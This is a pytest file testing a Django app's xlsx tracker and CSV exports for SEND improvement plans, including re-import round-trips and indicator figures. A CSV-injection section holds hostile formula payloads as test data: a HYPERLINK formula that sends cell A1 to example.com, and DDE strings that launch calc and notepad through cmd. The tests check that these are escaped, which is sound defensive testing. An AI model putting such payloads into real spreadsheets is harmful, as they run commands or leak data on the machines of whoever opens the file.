"""The tracker workbook and the CSV files: their cells, and the tracker's trip back in."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl.worksheet.worksheet import Worksheet

from sendplan.indicators import services as indicators
from sendplan.interchange.merge import apply_changes, plan_changes
from sendplan.interchange.parsers import parse_file_inprocess
from sendplan.interchange.parsers.readers import xlsx_copies
from sendplan.monitoring import services as monitoring
from sendplan.plans import services
from sendplan.plans.models import Plan
from sendplan.reports import renderers
from sendplan.reports.data import load_plan
from sendplan.reports.tests import ReportWorld, updates_of, workbook
from sendplan.reports.tracker import tracker_xlsx


def rows(sheet: Worksheet) -> list[list[object]]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def by_heading(sheet: Worksheet, ref: str) -> dict[str, object]:
    table = rows(sheet)
    headings = [str(h) for h in table[2]]
    row = next(r for r in table[3:] if r[0] == ref)
    return dict(zip(headings, row, strict=True))


def test_it_has_a_sheet_of_all_actions_and_one_per_theme(reports: ReportWorld) -> None:
    book = workbook(tracker_xlsx(load_plan(reports.plan)))
    assert book.sheetnames == [
        "All actions",
        "1 Implementation of the SEND St",
        "2 Joint commissioning",
        "Key",
        "Financial implications",
        "Lead officers",
        "Indicators",
    ]
    assert [r[0] for r in rows(book["All actions"])[3:]] == ["1.1.1", "1.1.2", "2.1.1"]
    assert [r[0] for r in rows(book["2 Joint commissioning"])[3:]] == ["2.1.1"]


def test_it_gives_every_field_and_a_status_column_per_period(reports: ReportWorld) -> None:
    sheet = workbook(tracker_xlsx(load_plan(reports.plan)))["All actions"]
    late = by_heading(sheet, "1.1.1")
    assert late == {
        "Ref": "1.1.1",
        "Action": "Confirm the Terms of Reference",
        "Lead": "Head of ELS (HH)",
        "Lead officers": "Helen Hill",
        "Start date": None,
        "Due date": "December 2018",
        "Measures of success and dates": "Terms of Reference approved (by May 2018)",
        "Task and finish group": None,
        "Members": None,
        "Evidence of impact": None,
        "Monitoring and evaluation": None,
        "Cross ref": None,
        "Mar 18": "G",
        "Jun 18": "G/A",
        "Sep 18": "R",
        "Progress update Sep 18": "Consultation has not started.",
    }
    costs = rows(sheet.parent["Financial implications"])
    assert costs[0] == ("Ref", "Item", "Resources", "Cost") or list(costs[0]) == [
        "Ref", "Item", "Resources", "Cost"]  # fmt: skip
    assert ["2.1.1", "Draft the joint commissioning strategy", "Commissioning team time",
            "£12,000"] in costs  # fmt: skip


def test_it_colours_statuses_freezes_the_heading_and_filters(reports: ReportWorld) -> None:
    book = workbook(tracker_xlsx(load_plan(reports.plan)))
    sheet = book["All actions"]
    assert sheet.freeze_panes == "C4"
    assert sheet.auto_filter.ref == "A3:P6"
    red = sheet["O4"]
    assert (red.value, red.fill.fgColor.rgb) == ("R", "00F4CDC6")
    assert sheet["M4"].fill.fgColor.rgb == "00CCE2D8"
    key = [r[0] for r in rows(book["Key"])]
    assert key == ["Key", "Blue: Completed", "Green: On track, no concerns",
                   "Amber: On track, some concerns", "Red: No progress or major concerns",
                   "White: Not yet started"]  # fmt: skip


def test_every_cell_given_a_style_carries_it_on_every_sheet(reports: ReportWorld) -> None:
    # The first cell of a style has it worked out by openpyxl; the rest copy it.
    book = workbook(tracker_xlsx(load_plan(reports.plan)))
    actions, costs = book["All actions"], book["Financial implications"]
    for headings in ([c for c in actions[3] if c.value], [c for c in costs[1] if c.value]):
        assert headings
        assert {cell.style for cell in headings} == {"sendplan heading"}
        assert all(cell.font.b and cell.alignment.wrap_text for cell in headings)
    titles = [actions.cell(row=row, column=2) for row in range(4, actions.max_row + 1)]
    assert titles and all(cell.style == "sendplan wrapped" for cell in titles)
    assert all(cell.alignment.wrap_text and not cell.font.b for cell in titles)


def read_back(content: bytes) -> dict:  # type: ignore[type-arg]
    result = parse_file_inprocess(content, "tracker.xlsx")
    return result.document


def test_it_changes_nothing_when_imported_back_into_its_plan(reports: ReportWorld) -> None:
    changes = plan_changes(reports.plan, read_back(tracker_xlsx(load_plan(reports.plan))))
    assert changes.summary() == "No changes"
    assert (changes.problems, changes.notes, changes.not_in_file) == ([], [], [])


def test_it_brings_in_exactly_the_statuses_leads_add_for_a_new_period(
    reports: ReportWorld,
) -> None:
    book = workbook(tracker_xlsx(load_plan(reports.plan)))
    sheet = book["All actions"]
    column = sheet.max_column + 1
    sheet.cell(row=3, column=column, value="Dec 18")
    sheet.cell(row=4, column=column, value="A")
    sheet.cell(row=6, column=column, value="G")
    out = io.BytesIO()
    book.save(out)

    changes = plan_changes(reports.plan, read_back(out.getvalue()))
    assert changes.summary() == "1 new period, 2 new status updates"
    assert [(u.action_ref, str(u)) for u in changes.new_updates] == [
        ("1.1.1", "Dec 18: A"),
        ("2.1.1", "Dec 18: G"),
    ]
    apply_changes(
        plan=reports.plan, changes=changes, actor=reports.world.users["programme_manager"]
    )
    assert [(u.period.label, u.status) for u in updates_of(reports.late)][-1] == ("Dec 18", "A")
    assert updates_of(reports.done)[-1].period.label == "Sep 18"


def read_every_sheet(content: bytes, monkeypatch: pytest.MonkeyPatch) -> Any:
    """The file read as it was before theme sheets that repeat the first were passed over."""
    with monkeypatch.context() as patched:
        patched.setattr(xlsx_copies, "copied_sheets", lambda data, gap: set())
        return parse_file_inprocess(content, "tracker.xlsx")


def test_its_theme_sheets_are_passed_over_as_copies_with_nothing_lost(
    reports: ReportWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    content = tracker_xlsx(load_plan(reports.plan))
    # The two theme sheets, the second and third parts; not the key, costs or people.
    assert xlsx_copies.copied_sheets(content, 500) == {"xl/worksheets/sheet2.xml",
                                                  "xl/worksheets/sheet3.xml"}  # fmt: skip
    result = parse_file_inprocess(content, "tracker.xlsx")
    assert result.document == read_every_sheet(content, monkeypatch).document


def test_an_action_edited_on_its_theme_sheet_is_still_read(
    reports: ReportWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    book = workbook(tracker_xlsx(load_plan(reports.plan)))
    sheet = book["2 Joint commissioning"]
    assert sheet["A4"].value == "2.1.1"
    sheet["B4"] = "Draft and publish the joint commissioning strategy"
    out = io.BytesIO()
    book.save(out)
    content = out.getvalue()

    # The untouched theme sheet is still a copy; the edited one is read.
    assert xlsx_copies.copied_sheets(content, 500) == {"xl/worksheets/sheet2.xml"}
    result = parse_file_inprocess(content, "tracker.xlsx")
    assert result.document == read_every_sheet(content, monkeypatch).document
    assert "Draft and publish the joint commissioning strategy" in str(result.document)
    # As before: the edited copy comes in beside the first, for the person checking to see.
    assert ("sheet '2 Joint commissioning' row 4", "ref-repeated") in [
        (item.where, item.code) for item in result.report
    ]


def test_only_a_workbook_laid_out_as_the_tracker_has_its_sheets_passed_over(
    reports: ReportWorld,
) -> None:
    book = workbook(tracker_xlsx(load_plan(reports.plan)))
    book["All actions"].title = "Actions"
    out = io.BytesIO()
    book.save(out)
    assert xlsx_copies.copied_sheets(out.getvalue(), 500) == set()


def test_the_theme_sheets_are_read_when_the_sheet_of_all_actions_is_hidden(
    reports: ReportWorld,
) -> None:
    book = workbook(tracker_xlsx(load_plan(reports.plan)))
    book["All actions"].sheet_state = "hidden"
    out = io.BytesIO()
    book.save(out)
    assert xlsx_copies.copied_sheets(out.getvalue(), 500) == set()
    document = read_back(out.getvalue())
    assert "Draft the joint commissioning strategy" in str(document)


def test_theme_sheets_narrower_than_the_sheet_of_all_actions_are_read(
    reports: ReportWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A note far to the right of one action on the first sheet makes all its rows wider, as
    # openpyxl reads them, than the same rows on a theme sheet.
    book = workbook(tracker_xlsx(load_plan(reports.plan)))
    sheet = book["All actions"]
    assert sheet["A4"].value == "1.1.1"
    sheet.cell(row=4, column=60, value="See the strategy")
    out = io.BytesIO()
    book.save(out)
    content = out.getvalue()
    assert xlsx_copies.copied_sheets(content, 500) == set()
    result = parse_file_inprocess(content, "tracker.xlsx")
    assert result.document == read_every_sheet(content, monkeypatch).document


def test_it_writes_actions_and_updates_as_csv_with_a_byte_order_mark(
    reports: ReportWorld,
) -> None:
    data = load_plan(reports.plan)
    content = renderers.actions_csv(data)
    assert content.startswith("\ufeff".encode())
    actions = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [a["Ref"] for a in actions] == ["1.1.1", "1.1.2", "2.1.1"]
    late = actions[0]
    assert (late["Due date"], late["Original due date"], late["Due date changes"]) == (
        "2018-12",
        "May 2018",
        "1",
    )
    assert (late["Latest period"], late["Latest status"], late["Latest status label"]) == (
        "Sep 18",
        "R",
        "No progress or major concerns",
    )
    assert actions[2]["Cost"] == "12000.00"

    updates = list(csv.DictReader(io.StringIO(renderers.updates_csv(data).decode("utf-8-sig"))))
    assert [(u["Action ref"], u["Period"], u["Status"]) for u in updates] == [
        ("1.1.1", "Mar 18", "G"),
        ("1.1.1", "Jun 18", "G/A"),
        ("1.1.1", "Sep 18", "R"),
        ("1.1.2", "Mar 18", "A"),
        ("1.1.2", "Jun 18", "A"),
        ("1.1.2", "Sep 18", "B"),
        ("2.1.1", "Jun 18", "W"),
    ]
    returned = updates[2]
    assert returned["Review state"] == "Returned to the lead"
    assert returned["Period end"] == "2018-09-30"
    assert returned["Evidence"] == "Draft ToR v3"
    assert returned["Status label"] == "No progress or major concerns"


def test_it_downloads_the_tracker_and_csvs_with_sensible_names(reports: ReportWorld) -> None:
    client = reports.world.client_for("lead_officer")
    for name, filename in [
        ("tracker_xlsx", "testshire-tracker.xlsx"),
        ("actions_csv", "testshire-actions.csv"),
        ("updates_csv", "testshire-status-updates.csv"),
        ("figures_csv", "testshire-indicator-figures.csv"),
    ]:
        response = client.get(reverse(name, args=[reports.plan.pk]))
        assert response.status_code == 200
        assert response["Content-Disposition"] == f'attachment; filename="{filename}"'


@pytest.mark.django_db
@pytest.mark.parametrize("area", ["South Gloucestershire", "Telford and Wrekin"])
def test_it_changes_nothing_when_a_demo_plans_tracker_comes_back(area: str) -> None:
    call_command("demo", stdout=io.StringIO())
    plan = Plan.objects.get(area__name=area)
    changes = plan_changes(plan, read_back(tracker_xlsx(load_plan(plan))))
    assert changes.is_empty, changes.summary()


# Text that a spreadsheet would run as a formula (OWASP's CSV injection)

FORMULAS = {
    "title": '=HYPERLINK("http://example.com/?x="&A1,"Click for the minutes")',
    "lead_text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "evidence_of_impact": "+1+1",
    "monitoring": "\tTermly=1+1",
    "members": "\r=1+1",
}
NARRATIVE = "-2+3+cmd|' /C notepad'!'A1'"


def with_formula_like_text(reports: ReportWorld, **fields: str) -> None:
    values: dict[str, Any] = fields or FORMULAS
    services.action_update(actor=None, action=reports.late, **values)
    monitoring.status_update_record(
        actor=None, action=reports.late, period=reports.periods[2], status="R", narrative=NARRATIVE
    )


def test_it_writes_text_that_looks_like_a_formula_as_text_in_the_csvs(
    reports: ReportWorld,
) -> None:
    with_formula_like_text(reports)
    data = load_plan(reports.plan)
    actions = list(csv.DictReader(io.StringIO(renderers.actions_csv(data).decode("utf-8-sig"))))
    late = actions[0]
    assert late["Action"] == "'" + FORMULAS["title"]
    assert late["Lead (as written)"] == "'" + FORMULAS["lead_text"]
    assert late["Evidence of impact"] == "'+1+1"
    assert late["Monitoring and evaluation"] == "'\tTermly=1+1"
    assert late["Members"] == "'\r=1+1"
    assert late["Latest narrative"] == "'" + NARRATIVE
    # Figures stay figures, and text that starts otherwise is left alone.
    assert (actions[2]["Cost"], actions[1]["Action"]) == ("12000.00", "Publish the board's minutes")

    updates = list(csv.DictReader(io.StringIO(renderers.updates_csv(data).decode("utf-8-sig"))))
    newest = [u for u in updates if u["Action ref"] == "1.1.1"][-1]
    assert (newest["Action"], newest["Narrative"]) == (
        "'" + FORMULAS["title"],
        "'" + NARRATIVE,
    )
    every_cell = [value for row in actions + updates for value in row.values()]
    assert not [v for v in every_cell if v.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_it_writes_text_that_looks_like_a_formula_as_text_in_the_tracker(
    reports: ReportWorld,
) -> None:
    with_formula_like_text(reports)
    book = workbook(tracker_xlsx(load_plan(reports.plan)))
    sheet = book["All actions"]
    table = rows(sheet)
    headings = [str(h) for h in table[2]]
    row = 3 + next(i for i, r in enumerate(table[3:]) if r[0] == "1.1.1") + 1
    cells = {name: sheet.cell(row=row, column=i + 1) for i, name in enumerate(headings)}
    for heading, text in [
        ("Action", FORMULAS["title"]),
        ("Lead", FORMULAS["lead_text"]),
        ("Evidence of impact", "+1+1"),
        ("Monitoring and evaluation", "\tTermly=1+1"),
        ("Members", "\r=1+1"),
        ("Progress update Sep 18", NARRATIVE),
    ]:
        cell = cells[heading]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), heading
    formulas = [c.coordinate for s in book.worksheets for r in s.iter_rows() for c in r
                if c.data_type == "f"]  # fmt: skip
    assert formulas == []


def test_it_changes_nothing_when_a_tracker_with_formula_like_text_comes_back(
    reports: ReportWorld,
) -> None:
    # The lead is read back as people, so it is written as a plan would write it.
    with_formula_like_text(
        reports,
        title=FORMULAS["title"],
        lead_text="@Head of ELS (HH)",
        group="+SEND board working group",
        monitoring=FORMULAS["monitoring"],
        members="=Chair, DCO, forum",
    )
    changes = plan_changes(reports.plan, read_back(tracker_xlsx(load_plan(reports.plan))))
    assert changes.summary() == "No changes"
    assert (changes.problems, changes.notes, changes.not_in_file) == ([], [], [])


# A large plan, and people of every shape, read back from the plan's own tracker

GENERATED_PEOPLE = [
    # (key, name, role, organisation)
    ("p-001", "Siobhán O'Neill-Dálaigh", "Head of SEND", "Council"),
    ("EH", "", "Head of Early Help", ""),
    ("dr-a-n-other", "Dr A. N. Other", "Designated Clinical Officer", "ICB"),
    ("JS2", "Jo Smith", "Jo Smith", ""),
    ("forum", "", "", "Parent Carer Forum"),
    ("x_9", "Li Wei", "SENCo Lead (Primary), Inclusion & Access", "Council"),
]


@pytest.mark.django_db
def test_a_large_plans_own_tracker_reads_back_as_no_changes_whoever_its_people_are() -> None:
    from sendplan.plans.services import MeasureData
    from sendplan.scale import grow_plan

    call_command("demo", stdout=io.StringIO())
    plan = Plan.objects.get(area__name="South Gloucestershire")
    grow_plan(plan, actions=300, periods=12)
    people = [
        services.person_create(actor=None, plan=plan, key=key, name=name, role=role,
                               organisation=organisation)
        for key, name, role, organisation in GENERATED_PEOPLE
    ]  # fmt: skip
    newest_theme = plan.sections.filter(level="Theme").order_by("-position").first()
    assert newest_theme is not None
    actions = list(newest_theme.actions.order_by("position"))
    for index, action in enumerate(actions[: len(people)]):
        services.action_update(
            actor=None,
            action=action,
            leads=people[index : index + 2],
            lead_text="",
            due_text="",
            cost_text="",
            # Measures dated in words the importer cannot read as a date, and in none.
            measures=[
                MeasureData("Every school visited", "", "3 times a year"),
                MeasureData("A report to the board (annual)", "2026-03", ""),
                MeasureData("Families say they were heard"),
            ],
        )
    changes = plan_changes(plan, read_back(tracker_xlsx(load_plan(plan))))
    assert changes.summary() == "No changes", [
        (c.ref, [(f.field, f.before, f.after) for f in c.fields]) for c in changes.changed_actions
    ]
    assert (changes.problems, changes.not_in_file) == ([], [])


# Indicator figures


def record_figures(reports: ReportWorld) -> None:
    """Sep 18 (open) gets a supplier's figure of 25.5 for the indicator; the manager returns
    it, and approves the 52 sent instead."""
    world = reports.world
    indicator = reports.plan.indicators.get()
    indicators.indicator_update(actor=None, indicator=indicator, supplier=world.lead)
    lead, manager = world.users["lead_officer"], world.users["programme_manager"]
    sep = reports.periods[2]
    wrong = indicators.figure_submit(
        actor=lead, indicator=indicator, period=sep, value=25.5, reviewed=False
    )
    indicators.figure_review(actor=manager, point=wrong, decision="returned", comment="Typo?")
    right = indicators.figure_submit(
        actor=lead, indicator=indicator, period=sep, value=52, source="SEN2", reviewed=False
    )
    indicators.figure_review(actor=manager, point=right, decision="approved")


def test_the_tracker_has_a_sheet_of_each_periods_target_and_actual(reports: ReportWorld) -> None:
    record_figures(reports)
    sheet = workbook(tracker_xlsx(load_plan(reports.plan)))["Indicators"]
    table = rows(sheet)
    assert table[0] == [
        "Ref", "Indicator", "Unit", "Baseline", "Baseline date",
        "Target Mar 18", "Actual Mar 18", "Target Jun 18", "Actual Jun 18",
        "Target Sep 18", "Actual Sep 18",
    ]  # fmt: skip
    # The target is the trajectory's on the period's last day: 45 at the end of March, 60 at
    # the end of September and a straight line between. Mar 18's actual is the one the plan
    # document gave for March; Sep 18's is the figure approved for the period.
    assert table[1:] == [
        ["1.1", "EHC plans issued within 20 weeks", "%", 31, "2017-09",
         45, 38, 52.46, None, 60, 52],
    ]  # fmt: skip


def test_the_tracker_with_its_indicators_sheet_still_reads_back_as_no_changes(
    reports: ReportWorld,
) -> None:
    record_figures(reports)
    document = read_back(tracker_xlsx(load_plan(reports.plan)))
    assert [i["name"] for i in document["plan"]["indicators"]] == [
        "EHC plans issued within 20 weeks"
    ]
    changes = plan_changes(reports.plan, document)
    assert changes.summary() == "No changes"
    assert (changes.problems, changes.notes, changes.not_in_file) == ([], [], [])


def test_the_figures_csv_has_every_figure_with_its_period_and_review_state(
    reports: ReportWorld,
) -> None:
    record_figures(reports)
    content = renderers.figures_csv(load_plan(reports.plan))
    assert content.startswith("\ufeff".encode())
    figures = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [
        (f["Kind"], f["Date"], f["Period"], f["Figure"], f["Review state"]) for f in figures
    ] == [
        ("Baseline", "2017-09", "", "31", ""),
        ("Target", "2018-03", "", "45", ""),
        ("Target", "2018-09", "", "60", ""),
        ("Actual", "2018-03", "", "38", ""),
        ("Actual", "2018-09-30", "Sep 18", "25.5", "Returned to the supplier"),
        ("Actual", "2018-09-30", "Sep 18", "52", "Approved"),
    ]
    approved = figures[-1]
    assert (approved["Indicator ref"], approved["Unit"], approved["Source"]) == ("1.1", "%", "SEN2")
    assert approved["Which way is better"] == "Higher is better"
    assert approved["Recorded by"] == "Lead officer"


def test_a_correction_is_a_row_beside_the_figure_it_corrects(reports: ReportWorld) -> None:
    record_figures(reports)
    manager = reports.world.users["programme_manager"]
    sep = reports.periods[2]
    monitoring.period_sign_off(actor=manager, period=sep, reason="The board met")
    approved = sep.figures.latest("position")
    indicators.figure_correct(actor=manager, point=approved, value=51, reason="SEN2 revised")
    data = load_plan(reports.plan)
    figures = list(csv.DictReader(io.StringIO(renderers.figures_csv(data).decode("utf-8-sig"))))
    assert [(f["Figure"], f["Correction of an earlier figure"], f["Reason for the correction"])
            for f in figures[-2:]] == [("52", "", ""), ("51", "yes", "SEN2 revised")]  # fmt: skip
    sheet = workbook(tracker_xlsx(data))["Indicators"]
    assert rows(sheet)[1][-1] == 51


def test_indicator_names_that_look_like_formulas_stay_text(reports: ReportWorld) -> None:
    indicator = reports.plan.indicators.get()
    indicators.indicator_update(actor=None, indicator=indicator, name=FORMULAS["title"])
    data = load_plan(reports.plan)
    cell = workbook(tracker_xlsx(data))["Indicators"]["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULAS["title"], "s", True)
    figures = list(csv.DictReader(io.StringIO(renderers.figures_csv(data).decode("utf-8-sig"))))
    assert {f["Indicator"] for f in figures} == {"'" + FORMULAS["title"]}
